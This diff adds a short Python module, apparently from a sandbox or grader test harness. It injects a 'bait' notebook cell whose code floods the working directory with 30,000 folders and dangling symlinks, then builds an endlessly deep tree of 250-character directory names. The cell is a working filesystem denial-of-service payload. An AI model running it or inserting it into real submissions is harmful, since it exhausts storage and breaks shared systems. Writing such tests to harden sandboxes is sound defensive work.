@@ -1,0 +1,17 @@
+"""Makes folders and links, which take no space, and a tree so deep that no path reaches its bottom."""
+
+CODE = r"""
+import os
+
+home = os.getcwd()
+for number in range(30_000):
+    os.mkdir(f"f{number}")
+    os.symlink("x", f"l{number}")
+while True:
+    os.mkdir("d" * 250)
+    os.chdir("d" * 250)
+"""
+
+
+def attack(submission):
+    submission.add(submission.bait.cell(CODE))
